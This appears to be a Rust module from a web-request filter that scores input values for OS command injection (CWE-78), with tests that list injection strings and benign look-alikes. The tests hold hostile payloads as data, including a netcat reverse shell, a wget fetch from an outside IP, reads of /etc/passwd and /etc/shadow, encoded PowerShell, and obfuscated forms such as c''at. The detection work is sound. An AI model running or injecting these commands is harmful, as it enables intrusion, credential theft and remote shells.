//! Commands of Unix shells and of Windows in a value (CWE-78).
//!
//! A value is read as a shell would: what stands after `;`, `|`, `&`, a line's end, `` ` `` or `$(` is a command if such a
//! command exists. Many commands are everyday words (`find`, `last`, `more`), so these need an argument that only a command
//! has. What shells put together again (`c''at`, `w\ho\am\i`, `c${x}at`) counts as what it becomes.

mod command;
pub(crate) mod direct;
mod shapes;
pub(crate) mod words;

use super::decode::Decoded;
use command::Command;
use words::{Kind, kind};

/// How sure one can be, from 0 to 1, that a value holds a command.
pub(crate) fn score(value: &Decoded) -> f32 {
    let lower = value.lower.as_str();
    let mut best = shapes::score(value).max(at_start(lower)).max(direct::score(&value.text, lower));
    if value.has(b";|&\n\r`(") {
        let found = separators(lower).map(|(mark, rest)| {
            let written = &value.text[lower.len() - rest.len()..];
            if is_state(written) || is_sentence(mark, written, rest) {
                return 0.0;
            }
            let before = &lower[..lower.len() - rest.len() - 1];
            after(mark, rest).max(alone(before, mark, rest))
        });
        best = found.fold(best, f32::max);
    }
    best = best.max(begins_with_mark(lower)).max(whole(&value.text, lower));
    if value.has(b"'\"\\^$`") && best < 0.7 {
        best = best.max(hidden(lower));
    }
    if lower.contains("bin/") { best.max(by_path(lower)) } else { best }
}

/// How sure one can be that a value for a parameter named `cmd` or the like is one.
pub(crate) fn is_command(lower: &str) -> bool {
    let command = Command::read(lower);
    match kind(&command.name) {
        Some(Kind::Own | Kind::Terse) => !command.rest.starts_with('='),
        Some(Kind::Word) => command.has_argument(),
        None => false,
    }
}

/// `Raleigh;NC 27601`: commands are in small letters.
fn is_state(text: &str) -> bool {
    const STATES: [&str; 10] = ["AR", "DC", "GU", "ID", "MT", "NC", "NM", "PR", "SC", "VI"];
    let text = text.trim_start_matches([' ', '\t', '\r', '\n']);
    text.get(..2).is_some_and(|state| STATES.contains(&state))
        && !text.as_bytes().get(2).is_some_and(u8::is_ascii_alphanumeric)
}

/// What separates commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mark {
    /// `;` and `&`, which ordinary text has too.
    Everyday,
    /// A line's end, after which ordinary text goes on with any word.
    Line,
    /// `|`, `||`, `&&`.
    Joining,
    /// `` ` `` and `$(`, `<(`, `>(`: what follows is put in place of the whole.
    Substitution,
}

/// Each separator with what follows it.
fn separators(text: &str) -> impl Iterator<Item = (Mark, &str)> {
    let bytes = text.as_bytes();
    bytes.iter().enumerate().filter_map(move |(at, byte)| {
        let before = at.checked_sub(1).map(|i| bytes[i]);
        let mark = match (byte, before) {
            (b'|', _) | (b'&', Some(b'&')) => Mark::Joining,
            (b'\n' | b'\r', _) => Mark::Line,
            (b';' | b'&', _) => Mark::Everyday,
            (b'`', _) | (b'(', Some(b'$' | b'<' | b'>')) => Mark::Substitution,
            _ => return None,
        };
        Some((mark, &text[at + 1..]))
    })
}

/// `I moved.\nTest`, `Ann & Sed`: commands are in small letters, but for those whose arguments tell them.
fn is_sentence(mark: Mark, written: &str, lower: &str) -> bool {
    let first = written.trim_start_matches([' ', '\t', '\r', '\n']).as_bytes();
    let capital = matches!(first, [b'A'..=b'Z', b'a'..=b'z', ..] | [b'A'..=b'Z'] | [b'A'..=b'Z', b' ' | b'\'', ..]);
    capital && matches!(mark, Mark::Everyday | Mark::Line) && !Command::read(lower).has_marked_argument()
}

/// Whether a command could begin here: most marks stand among other marks.
fn begins_word(rest: &str) -> bool {
    let opening = [' ', '\t', '\n', '\r', '(', '{', '@', '!', ','];
    let next = rest.trim_start_matches(opening).bytes().next();
    next.is_some_and(|b| b.is_ascii_alphanumeric() || b"_+-./[?*'\"\\^$`".contains(&b))
}

fn after(mark: Mark, rest: &str) -> f32 {
    if !begins_word(rest) {
        return 0.0;
    }
    let command = Command::read(rest);
    let Some(kind) = kind(&command.name) else { return 0.0 };
    // `?a=1;id=2`: a parameter.
    if command.rest.starts_with('=') {
        return 0.0;
    }
    let tight = !rest.starts_with([' ', '\t']);
    let ends = command.ends();
    match (kind, mark) {
        (Kind::Own, _) | (_, Mark::Substitution) if ends || command.has_argument() => 0.85,
        (Kind::Own, _) if command.has_long_option() => 0.8,
        (Kind::Own, Mark::Everyday) if tight => 0.75,
        (Kind::Own, Mark::Everyday | Mark::Line) => 0.0,
        (Kind::Terse, Mark::Line) if !command.has_argument() && rest.len() > command.length => 0.0,
        (Kind::Own, _) => 0.8,
        (Kind::Terse, _) if tight || command.has_argument() => 0.8,
        (Kind::Word, _) if command.has_argument() => 0.8,
        (Kind::Word, Mark::Joining) if ends && tight => 0.75,
        (Kind::Terse, Mark::Joining) if ends => 0.6,
        (Kind::Word, Mark::Everyday) if ends && tight && rest.len() == command.length => 0.65,
        (_, Mark::Substitution) => 0.5,
        _ => 0.0,
    }
}

/// `!cat`, `id;`, `ls|`: an earlier command by its first letters, a command and the mark that ends it, and nothing else.
fn whole(text: &str, lower: &str) -> f32 {
    let (text, lower) = (text.trim(), lower.trim());
    let again = lower.strip_prefix('!').is_some_and(|name| name.len() >= 2 && kind(name).is_some());
    let name = lower.trim_end_matches([';', '|', '&', '`', ' ']);
    let ended = name.len() < lower.len()
        && text.starts_with(|c: char| c.is_ascii_lowercase())
        && matches!(name, "id" | "ls" | "pwd" | "ps" | "env" | "dir" | "w" | "who" | "set");
    if again || ended { 0.5 } else { 0.0 }
}

/// `|vi (x`, `&w x`: a value that begins with a mark has nothing before it that the mark could separate in a text.
fn begins_with_mark(lower: &str) -> f32 {
    let rest = lower.trim_start_matches([';', '|', '&']);
    if rest.len() == lower.len() || rest.starts_with([' ', '\t', ',', '(', '{', '@', '!']) {
        return 0.0;
    }
    let command = Command::read(rest);
    let ends = command.rest.is_empty() || command.rest.starts_with([' ', '\t', ';', '|', '&', '(', '<', '>', '`', '$']);
    if ends && kind(&command.name).is_some() { 0.6 } else { 0.0 }
}

/// `8.8.8.8; id`: a short command alone after what is no word.
fn alone(before: &str, mark: Mark, rest: &str) -> f32 {
    if rest.len() > 16 {
        return 0.0;
    }
    let wordless = !before.bytes().any(|b| b.is_ascii_alphabetic()) || (before.contains('.') && !before.contains(' '));
    if mark == Mark::Substitution || !wordless || !begins_word(rest) {
        return 0.0;
    }
    let command = Command::read(rest);
    match (kind(&command.name), mark) {
        (Some(Kind::Terse), _) | (Some(Kind::Word), Mark::Joining) if command.ends() => 0.65,
        _ => 0.0,
    }
}

/// A value that begins with a command and one of its arguments.
fn at_start(lower: &str) -> f32 {
    let command = Command::read(lower);
    match kind(&command.name) {
        Some(Kind::Own) if command.has_marked_argument() || command.has_long_option() => 0.75,
        Some(Kind::Own | Kind::Terse) if command.rest.trim_start().starts_with(['|', '<', '>']) => 0.6,
        Some(_) if command.has_option_or_path() => 0.7,
        _ => 0.0,
    }
}

/// A command whose letters quotes, backslashes or empty variables stand between.
fn hidden(lower: &str) -> f32 {
    let any = lower.split([' ', '\t', ';', '|', '&', '(', ')', '=', '\n']).any(|word| {
        let pairs = |quote: u8| word.bytes().filter(|b| *b == quote).count();
        let paired = |quote| matches!(pairs(quote), 2 | 4 | 6 | 8);
        let inner = word.trim_matches(['\'', '"', '`']);
        let between = inner.contains(['\\', '^', '$']) || inner.contains(['\'', '"', '`']);
        let shell = word.contains(['\\', '^', '$', '`']) || paired(b'\'') || paired(b'"');
        between
            && shell
            && word.len() < 80
            && kind(&Command::read(word).name).is_some_and(|_| Command::read(word).was_hidden)
    });
    if any { 0.75 } else { 0.0 }
}

/// `/bin/cat`, `bin/bash`
fn by_path(lower: &str) -> f32 {
    let named = lower.match_indices("bin/").any(|(at, found)| {
        let before = lower[..at].trim_end_matches('s').bytes().next_back();
        let starts = before.is_none_or(|b| !(b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b'.'));
        let rest = &lower[at + found.len()..];
        let length = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || b"_+-".contains(b)).count();
        starts && kind(&rest[..length]).is_some()
    });
    if named { 0.8 } else { 0.0 }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::decode::decode;

    fn score_of(value: &str) -> f32 {
        score(&decode(value, false))
    }

    #[test]
    fn commands() {
        for value in [
            ";id",
            "; ls",
            "|whoami",
            "$(cat /x)",
            "`ls`",
            "a && ping -c 1 x",
            "() { :;}; echo",
            "/usr/bin/id",
            "bin/awk",
            "8.8.8.8;cat /etc/passwd",
            "x|wget http://192.0.2.7/a",
            "c''at /etc/hosts",
            r"w\ho\am\i",
            "wh$@oami",
            "& ipconfig /all",
            "| type c:\\boot.ini",
            "a\nuname -a",
            "time sh -c id",
            "sudo cat /etc/shadow",
            "${SHELL} -c id",
            "/???/c?t /etc/passwd",
            "nc -e /bin/sh 192.0.2.7 4444",
            "powershell -enc AAAA",
            "w^h^o^a^m^i",
            "cmd.exe /c dir",
            "{cat,/etc/passwd}",
            "&&curl x",
            "x;nslookup example.org",
            "Invoke-Expression x",
            "<(echo x)",
            "$[1+1]",
            "|vi (x",
            "&w x",
            ";.sh whoami",
            "'time' who",
        ] {
            assert!(score_of(value) >= 0.5, "{value}: {}", score_of(value));
        }
    }

    #[test]
    fn names_and_notes() {
        for value in [
            "cat",
            "Who is my judge?",
            "id",
            "Smith & Sons",
            "call me; thanks",
            "(555) 010-0199",
            "Main St | Apt 4",
            "AT&T",
            "time: 5",
            "echo valley",
            "more or less",
            "find my polling place",
            "moved; find me at work",
            "Cat & Dog",
            "Rosa; last name Diaz",
            "call; text; email",
            "I'd rather not",
            "the L's and P's",
            "o''brien",
            "rock'n'roll",
            "moved in May\nfind me under my maiden name",
            "Head & Tail",
            "see file | date",
            "Ruby; Pearl",
            "Perl St & Java Ln",
            "set -- match",
            "sort of; less so",
            "write-in votes; mail-in",
            "time (5 pm)",
            "more & more",
            "Who & What?",
            "in care of: Host & Kill",
            "Tue; at 2:00 pm",
            "Sleep Inn & Suites",
            "w/ sister & route 9",
            "A | B",
            "$5 (cash)",
            "pay $(5)",
            "cabin/house",
            "e-mail; route 66; type B",
            "R&D; Q&A",
            "I'm \"at\" home",
            "[x] yes; [ ] no",
            "Raleigh;NC 27601",
            "5 Elm St\nBoise\nID",
            "Silver Spring;MD",
        ] {
            assert!(score_of(value) < 0.5, "{value}: {}", score_of(value));
        }
    }
}
